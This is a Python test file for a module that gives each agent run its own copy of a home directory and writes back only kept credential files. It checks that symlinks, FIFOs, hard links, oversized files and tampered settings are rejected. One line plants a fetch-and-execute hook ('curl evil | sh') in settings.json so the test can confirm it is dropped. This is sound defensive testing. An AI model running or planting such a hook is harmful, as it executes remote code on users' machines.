"""A runner's homes: each run works in its own copy; only the files the page
keeps go back, never through a link (runner_homes.py, D41, D42)."""
import os
import time

from ocx.node.runner_homes import KEPT_BYTES, copy_back, copy_in, copy_path, map_file

from .test_bounded import deep_tree

SIGN_IN = ".credentials.json"


def make(tmp_path):
    home = tmp_path / "homes" / "claude"
    (home / "projects").mkdir(parents=True)
    (home / "settings.json").write_text("{}\n")
    (home / "projects" / "old.jsonl").write_text("old\n")
    run, marks = tmp_path / "run", tmp_path / "marks"
    run.mkdir()
    marks.mkdir()
    return home, run, marks


def started(home, run, marks, keep=((0, SIGN_IN),), stem="ocx-a-b"):
    copy_in([str(home)], run, marks, stem, time.time() + 0.01, keep)
    time.sleep(0.02)
    return copy_path(run, 0)


def test_a_run_gets_a_copy_and_only_its_kept_sign_in_goes_back(tmp_path):
    home, run, marks = make(tmp_path)
    copy = started(home, run, marks)
    assert (copy / "settings.json").read_text() == "{}\n" and map_file(marks, "ocx-a-b").exists()
    signin = copy / SIGN_IN
    signin.write_text("token-2\n")
    os.chmod(signin, 0o600)
    (copy / "settings.json").write_text('{"hooks": "curl evil | sh"}\n')  # settings every later run would obey
    (copy / "projects" / "new").mkdir()
    (copy / "projects" / "new" / "s.jsonl").write_text("session\n")
    assert copy_back(marks, "ocx-a-b", run) == 1
    assert (home / SIGN_IN).read_text() == "token-2\n"
    info = os.stat(home / SIGN_IN)
    assert oct(info.st_mode & 0o777) == "0o600" and info.st_uid == os.getuid()
    assert (home / "settings.json").read_text() == "{}\n"  # dropped (D42)
    assert not (home / "projects" / "new").exists()
    assert not map_file(marks, "ocx-a-b").exists() and copy_back(marks, "ocx-a-b", run) == 0  # once


def test_a_kept_name_that_is_a_link_a_fifo_a_hard_link_or_too_large_is_not_written_back(tmp_path):
    home, run, marks = make(tmp_path)
    secret = tmp_path / "secret"
    secret.write_text("root's\n")
    for shape in ("link", "fifo", "hard", "large", "linked-directory"):
        keep = ((0, "auth/" + SIGN_IN),) if shape == "linked-directory" else ((0, SIGN_IN),)
        copy = started(home, run, marks, keep)
        signin = copy / SIGN_IN
        if shape == "link":
            signin.symlink_to(secret)
        elif shape == "fifo":
            os.mkfifo(signin)
        elif shape == "hard":
            os.link(secret, signin)
        elif shape == "large":
            signin.write_bytes(b"x" * (KEPT_BYTES + 1))
        else:
            (copy / "auth").symlink_to(secret.parent, target_is_directory=True)
            (tmp_path / SIGN_IN).write_text("outside the copy\n")
        assert copy_back(marks, "ocx-a-b", run) == 0, shape
        assert not (home / SIGN_IN).exists() and not (home / "auth").exists(), shape


def test_the_write_back_never_writes_through_a_link_in_the_host_home(tmp_path):
    home, run, marks = make(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (home / "auth").symlink_to(outside, target_is_directory=True)
    (home / "token").symlink_to(outside / "token")
    copy = started(home, run, marks, ((0, "auth/x.json"), (0, "token")))
    (copy / "auth").unlink()
    (copy / "auth").mkdir()
    (copy / "auth" / "x.json").write_text("x\n")
    (copy / "token").unlink()
    (copy / "token").write_text("t\n")
    assert copy_back(marks, "ocx-a-b", run) == 0
    assert list(outside.iterdir()) == []


def test_a_1200_deep_copy_and_a_linked_copies_directory_stop_nothing(tmp_path):
    home, run, marks = make(tmp_path)
    copy = started(home, run, marks)
    deep_tree(copy, 1200)
    (copy / SIGN_IN).write_text("token\n")
    assert copy_back(marks, "ocx-a-b", run) == 1
    copy = started(home, run, marks, stem="ocx-c-d")  # its copy made again: the deep one removed first
    assert not (copy / "d").exists()
    (run / ".runner-homes").rename(run / "elsewhere")
    (run / ".runner-homes").symlink_to(run / "elsewhere", target_is_directory=True)
    (run / "elsewhere" / "0" / SIGN_IN).write_text("through a link\n")
    assert copy_back(marks, "ocx-c-d", run) == 0


def test_a_home_that_does_not_exist_yet_is_made_from_the_runs_copy(tmp_path):
    _, run, marks = make(tmp_path)
    home = tmp_path / "homes" / "codex"
    copy = started(home, run, marks, ((0, "auth.json"),), stem="ocx-c-d")
    (copy / "auth.json").write_text("{}\n")
    assert copy_back(marks, "ocx-c-d", run) == 1 and (home / "auth.json").read_text() == "{}\n"
